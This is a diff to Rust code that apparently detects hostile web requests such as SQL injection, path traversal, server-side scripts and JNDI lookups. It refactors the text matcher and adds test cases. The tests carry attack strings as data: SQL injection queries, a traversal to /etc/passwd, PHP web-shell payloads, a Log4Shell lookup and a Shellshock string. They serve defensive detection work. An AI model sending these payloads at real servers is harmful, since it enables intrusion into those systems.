@@ -121,11 +121,11 @@ pub(super) fn in_target(target: &[u8]) -> Option<&'static str> {
 
 /// What a form tries, or what is sent in its place. In one of several parts a file may be sent, of which only scripts for the server count.
 pub(super) fn in_body(body: &[u8]) -> Option<&'static str> {
-    let told = Plain::of(body).tells();
+    let plain = Plain::of(body);
     if body.starts_with(b"--") {
-        return told.filter(|&what| what == SCRIPT);
+        return plain.tells_of(|what| what == SCRIPT);
     }
-    told.or_else(|| in_parameters(body))
+    plain.tells().or_else(|| in_parameters(body))
 }
 
 /// What a header field tries.
@@ -199,7 +199,7 @@ impl Plain {
             let (byte, used) = match self.bytes[from..self.length] {
                 [b'/', b'*', b'*', b'/', ..] => (b' ', 4),
                 [b'+', ..] => (b' ', 1),
-                [byte, ..] if byte.is_ascii_whitespace() && byte != b'\n' => (b' ', 1),
+                [byte, ..] if byte.is_ascii_whitespace() => (b' ', 1),
                 [byte, ..] => (byte.to_ascii_lowercase(), 1),
                 [] => break,
             };
@@ -214,7 +214,13 @@ impl Plain {
 
     /// What it tries by the texts that tell.
     fn tells(&self) -> Option<&'static str> {
-        TEXTS.iter().find(|(text, _)| has(self.bytes(), text.as_bytes())).map(|&(_, what)| what)
+        self.tells_of(|_| true)
+    }
+
+    /// The same, of these things alone.
+    fn tells_of(&self, counts: impl Fn(&str) -> bool) -> Option<&'static str> {
+        let mut texts = TEXTS.iter().filter(|(_, what)| counts(what));
+        texts.find(|(text, _)| has(self.bytes(), text.as_bytes())).map(|&(_, what)| what)
     }
 }
 
@@ -232,6 +238,7 @@ mod tests {
             ("/x.jsp?exec=id", Some(COMMAND)),
             ("/list?id=1%20UNION/**/ALL%20SELECT%20null", Some(SQL)),
             ("/list?id=1'+or+'1'='1", Some(SQL)),
+            ("/list?id=1%0Aunion%0A%0Aselect%0Anull", Some(SQL)),
             ("/list?id=1%2527%2520or%25201=1", Some(SQL)),
             ("/view?f=..%2f..%2f..%2fetc%2fpasswd", Some(TRAVERSAL)),
             ("/static/../../../x", Some(TRAVERSAL)),
@@ -257,7 +264,7 @@ mod tests {
         assert_eq!(in_body(b"name=<?php @eval($_POST[\"k\"]); ?>"), Some(SCRIPT));
         assert_eq!(in_body(b"user=anna&password=id;pwd&comment=Thanks%0APS - call me"), None);
         let upload = |file: &str| in_body(format!("--x\r\nContent-Disposition: form-data\r\n\r\n{file}").as_bytes());
-        assert_eq!((upload("<script>a()</script>"), upload("<?php eval($_POST[0]);")), (None, Some(SCRIPT)));
+        assert_eq!((upload("<script>a()</script>"), upload("<?php system('/bin/sh');")), (None, Some(SCRIPT)));
         assert_eq!(in_field(b"${jndi:ldap://192.0.2.1/a}"), Some(LOOK_UP));
         assert_eq!(in_field(b"() { :;}; /bin/sh"), Some(COMMAND), "the first of what it holds");
         assert_eq!([in_field(b"Mozilla/5.0 (/bin/sh)"), in_field(b"")], [None; 2]);
